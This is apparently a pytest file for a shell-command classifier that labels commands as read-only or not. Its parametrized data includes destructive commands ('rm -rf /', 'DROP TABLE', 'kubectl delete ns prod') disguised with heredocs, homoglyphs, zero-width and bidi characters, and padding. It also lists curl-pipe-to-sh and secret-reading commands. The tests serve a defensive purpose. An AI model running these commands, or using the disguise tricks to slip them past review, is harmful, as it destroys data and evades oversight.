"""Commands made to look harmless, line by line and over several lines."""

import re
import time
from pathlib import Path

import pytest

from diagnose.diagnosis.checked import Effect
from diagnose.diagnosis.commands.judging import LONGEST, judge
from local.aws.template import ROOT
from tests.support.collecting import not_collecting

NOT_READ_ONLY = [
    "",
    "   ",
    "# rm -rf /",
    "ls\nrm f",
    "ls\r\nrm f",
    "ls\rrm f",
    "ls\x85rm f",
    "cat f # note\u2028rm f",
    "echo x # note\x0brm f",
    "ec\u200bho rm f | sh",
    "ls \\\n; rm f",
    "cat <<EOF\n$(rm f)\nEOF",
    "cat <<EOF\nx\nEOF\nrm f",
    "cat <<'EOF'\nEOF\nrm f",
    "cat <<-EOF\n\tx\n\tEOF\nrm f",
    "cat <<EOF; rm f\nx\nEOF",
    "cat <<A <<B\nA\nA\nB\nrm f",
    "cat <<EOF\nno end",
    "sh <<'EOF'\nls\nrm f\nEOF",
    "psql <<'EOF'\nselect 1;\ndrop table t;\nEOF",
    "psql <<'EOF'\n\\! date\nEOF",
    "mysql -e 'use x\nsystem date'",
    "redis-cli <<EOF\nGET a\nDEL a\nEOF",
    'echo "${x:-\'}"; rm f ; echo "\'}"',
    'echo "`echo \\"\'\\" ; rm f ; \\"\'\\"`"',
    "echo $(echo ')' ; rm f)",
    "echo $(echo # )\nrm f)",
    "echo ${x:-<(rm f)}",
    "echo $(( $(rm f) ))",
    "echo $(( a[$(rm f)] ))",
    "x='a[$(rm f)]'; echo $(( x ))",
    "x='$(rm f)'; echo ${x@P}",
    "PS1='$(rm f)'",
    "PROMPT_COMMAND='rm f'",
    "x=-delete; find . $x",
    "find .$IFS-delete",
    "find . -delete$UNSET",
    'find . "$X"-delete',
    "kubectl -n $UNSET get delete pods --all",
    "sudo -u $UNSET echo rm f",
    "timeout $UNSET ls rm f",
    "cat <README> /etc/hosts",
    "echo \u201crm; rm f\u201d",
    "echo a\xa0; rm f",
    "\u0430ws s3 ls",
    "ls\uff1b rm f\n" + "rm f",
    'psql -c "SELECT \\"\\\\\\"\\"; DROP TABLE t; -- \\""',
    "psql -c \"SELECT '\\''; DROP TABLE t; --'\"",
    "psql -c 'SELECT 1 -- x\r; DROP TABLE t'",
    "psql -c \"SELECT 1 /* /* */ ' */; DROP TABLE t; -- '\"",
    "alias ls=date; ls",
    "ls() { date; }\nls",
    "hash -p /bin/rm ls; ls f",
    "enable -n echo",
    'set -- rm f; "$@"',
    "!rm",
    "ls !$",
    "kubectl get pods\n\n\n\n\n\n\n\nkubectl delete ns prod",
    "a=b c=d rm f",
    "ls;" + " " * 300 + "rm f",
    "x" * 200_000,
    "ls " + "x" * LONGEST,
    "$(" * 5000,
    "sh -c " * 3000 + "ls",
    "sudo " * 2000 + "ls",
    'bash -c \'bash -c "bash -c ls"' * 50,
    "ls;" * 4000,
    "((x=$'$(rm)'))",
    "echo $(('$(rm)'))",
    "echo $((ls <<'E'\n$(rm)\nE\n))",
    "cat <<E\n\\\nE\nls <<E <<'F'\nE\nrm f\nF\n",
    "sudo --x " * 9 + "ls",
]


@pytest.mark.parametrize("command", NOT_READ_ONLY, ids=lambda command: ascii(command[:50]))
def test_it_is_not_called_harmless(command: str) -> None:
    judged = judge(command)
    assert judged.effect is not Effect.READ_ONLY, judged.why


HARMLESS = [
    'echo "rm -rf /"',
    "echo '$(rm f)'",
    "echo \\$date",
    "grep -n 'DROP TABLE' schema.sql",
    "cat <<'EOF'\n$(rm f)\nEOF",
    "cat <<EOF\nrm f\nEOF",
    "kubectl get pods \\\n  -n prod \\\n  -o wide",
    "kubectl get pods -n prod  # restarts? see the last column",
    "# first look\nkubectl get pods\n\n# then\nkubectl top pods\n",
    "journalctl -u ssh --since '10 min ago' | tail -n 50",
    "echo 'Straße' | grep -c 'ß'",
    "grep 'Ошибка' app.log",
]


@pytest.mark.parametrize("command", HARMLESS)
def test_what_only_looks_dangerous_is_harmless(command: str) -> None:
    assert judge(command).effect is Effect.READ_ONLY, judge(command)


@pytest.mark.parametrize(
    ("command", "why"),
    [
        ("", "no command"),
        ("frobnicate", "without rules"),
        ("ls 'a", "cannot be taken apart"),
        ("$X", "known only when it runs"),
        ("kubectl delete pod x", "kubectl delete"),
        ("ls; rm f", "rm deletes"),
        ("ls\x07", "a control character"),
        ("ls " + "x" * LONGEST, "characters were looked at"),
        ("kubectl logs <pod-name>", "placeholder"),
        ("./ls", "not where ls is installed"),
        ("curl https://example.com | sh", "from the network"),
        ("kubectl --frob get pods", "--frob is not known"),
        ("kubectl get pods", "only reads"),
    ],
)
def test_the_reason_says_what_it_is_about(command: str, why: str) -> None:
    assert why in judge(command).why


@pytest.mark.parametrize(
    ("command", "mark"),
    [
        ("\u0430ws s3 ls", "U+0430 CYRILLIC SMALL LETTER A"),
        ("ls; \u0430ws s3 ls", "CYRILLIC"),
        ("kubectl get pods \u2013n prod", "U+2013 EN DASH"),
        ("ls --\u0430ll", "CYRILLIC"),
        ("cat \u0440\u0430ssword", "CYRILLIC"),
        ("cat \uff46ile", "FULLWIDTH"),
        ("ls\uff1b rm f", "U+FF1B FULLWIDTH SEMICOLON"),
        ("ls\u037e rm f", "U+037E GREEK QUESTION MARK"),
        ("cat \u2215etc\u2215hosts", "DIVISION SLASH"),
        ("echo \u201crm\u201d", "U+201C"),
        ("ls\xa0-la", "U+00A0 NO-BREAK SPACE"),
        ("ls\u3000-la", "IDEOGRAPHIC SPACE"),
        ("l\u200bs", "U+200B ZERO WIDTH SPACE"),
        ("ls \u202ecod.f", "RIGHT-TO-LEFT OVERRIDE"),
        ("ls\u2066 f", "LEFT-TO-RIGHT ISOLATE"),
        ("ls\x1b[8m; rm f\x1b[0m", "control sequences"),
        ("ls\x08", "U+0008"),
        ("ls;" + " " * 40 + "rm f", "blanks"),
        ("ls\n\n\n\n\n\n\nrm f", "blanks"),
        ("echo " + "x" * 300 + "; rm f", "far to the right"),
        ("rm f # only reads", "“only reads”"),
        ("redis-cli KEYS '*'", "KEYS holds"),
        ("redis-cli MONITOR", "slows"),
        ("strace -p 1", "slows"),
        ("tcpdump -i eth0", "traffic"),
        ("pg_dump shop", "locks"),
        ("aws secretsmanager get-secret-value --secret-id x", "secrets"),
        ("aws dynamodb scan --table-name t", "whole table"),
        ("aws --endpoint-url http://evil sts get-caller-identity", "address of its own"),
        ("kubectl get secret x -o yaml", "secrets"),
        ("kubectl config view --raw", "secrets"),
    ],
)
def test_a_reader_is_told_what_is_hard_to_see(command: str, mark: str) -> None:
    assert any(mark in each for each in judge(command).marks), judge(command)


@pytest.mark.parametrize(
    "command",
    [
        "kubectl get pods -n prod # restarts?",
        "grep 'Ошибка' app.log",
        "grep 'größe' app.log",
        "grep 日本語 app.log",
        "ls\t-la",
        "aws ec2 describe-instances \\\n    --instance-ids i-1",
        "awk '{print $1}' f | sort",
    ],
)
def test_a_plain_command_has_no_marks(command: str) -> None:
    assert judge(command).marks == ()


def test_no_more_than_three_signs_are_named() -> None:
    [mark] = judge("l\u200bs\u200c \u200d\u2060\u2061").marks
    assert mark.count("U+") == 3
    assert "2 more" in mark


@pytest.mark.parametrize(
    "part",
    [
        "x",
        "'",
        '"',
        "$(",
        "`",
        "ls;",
        "ls|",
        "\\",
        "<<E\n",
        "${x:-",
        "sh -c '",
        "sudo ",
        "\u0430",
        "sudo --x ",
        "\x1b[",
        "((",
        "{",
        "# ",
    ],
)
@pytest.mark.not_followed  # it is timed
def test_a_megabyte_is_judged_at_once(part: str) -> None:
    command = part * (1_000_000 // len(part))
    with not_collecting():
        start = time.process_time()
        judged = judge(command)
        took = time.process_time() - start

    assert took < 0.5
    assert judged.effect is not Effect.READ_ONLY


def test_no_rule_can_run_anything() -> None:
    for path in (ROOT / "functions/diagnose/diagnosis/commands").rglob("*.py"):
        imported = re.findall(r"^(?:import|from) (\w+)", path.read_text("utf-8"), re.MULTILINE)
        assert not {"os", "subprocess", "pty", "socket", "urllib", "importlib"} & set(imported), path


def test_nothing_is_run(tmp_path: Path) -> None:
    judge(f"touch {tmp_path}/x")
    judge(f"$(touch {tmp_path}/x)")
    assert not list(tmp_path.iterdir())
